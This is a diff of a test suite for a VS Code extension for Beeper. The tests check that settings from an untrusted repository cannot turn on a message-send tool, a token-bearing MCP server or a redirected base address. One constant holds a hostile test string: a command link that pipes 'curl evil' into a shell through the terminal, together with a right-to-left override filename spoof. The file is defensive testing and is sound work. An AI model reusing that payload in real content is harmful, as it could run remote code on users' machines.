@@ -9,7 +9,7 @@ import * as vscode from 'vscode';
 import type { BeeperExtensionApi } from '../../src/extension';
 import type { LoginResult } from '../../src/login/loginService';
 import { LoginDisplayPanel } from '../../src/webviews/loginPanel';
-import { activateExtension, children, openChatPage, resetSandbox, sandbox, sandboxUrl, waitFor } from './helpers';
+import { activateExtension, children, openChatPage, resetSandbox, sandbox, sandboxUrl, waitFor, withRepositorySettings } from './helpers';
 
 type State = { openLoginSessions: number; loginSessions: { bridgeID: string; status: string }[]; requests: { total: number } };
 const HOSTILE = 'Pay [now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) $(zap)$(alert) \u202Eexe.txt';
@@ -53,26 +53,15 @@ suite('Trust: where the token goes, hostile text, logins that end, bounded panel
     // A repository's .vscode/settings.json (as VS Code surfaces it: a workspace value) turns on the
     // send tool, the MCP server and remote images, and points the address elsewhere.
     const repo: Record<string, unknown> = { languageModelTools: 'readAndSend', mcpServer: true, loadRemoteImages: true, baseUrl: 'https://collector.example' };
-    const realGet = vscode.workspace.getConfiguration;
-    vscode.workspace.getConfiguration = ((section?: string, scope?: vscode.ConfigurationScope | null) => {
-      const config = realGet(section, scope);
-      if (section !== 'beeper') return config;
-      // The configuration object is frozen: a stand-in that answers like it, with the workspace values.
-      return {
-        get: (key: string, fallback?: unknown) => (key in repo ? repo[key] : config.get(key, fallback)),
-        has: (key: string) => config.has(key),
-        inspect: (key: string) => ({ ...config.inspect(key)!, ...(key in repo ? { workspaceValue: repo[key] } : {}) }),
-        update: config.update.bind(config),
-      } as unknown as vscode.WorkspaceConfiguration;
-    });
     try {
-      api.tools.apply();
-      assert.ok(!api.tools.registered.includes('beeper_sendMessage'), 'the send tool stays off');
-      assert.deepStrictEqual(await api.mcp.provideMcpServerDefinitions(), [], 'no token-bearing MCP server');
-      delete process.env.BEEPER_DESKTOP_BASE_URL; // restored by teardown
-      assert.strictEqual(api.connection.baseUrl, 'http://localhost:23373', 'the address is not the repository\'s');
+      await withRepositorySettings(repo, async () => {
+        api.tools.apply();
+        assert.ok(!api.tools.registered.includes('beeper_sendMessage'), 'the send tool stays off');
+        assert.deepStrictEqual(await api.mcp.provideMcpServerDefinitions(), [], 'no token-bearing MCP server');
+        delete process.env.BEEPER_DESKTOP_BASE_URL; // restored by teardown
+        assert.strictEqual(api.connection.baseUrl, 'http://localhost:23373', 'the address is not the repository\'s');
+      });
     } finally {
-      vscode.workspace.getConfiguration = realGet;
       api.tools.apply();
     }
   });
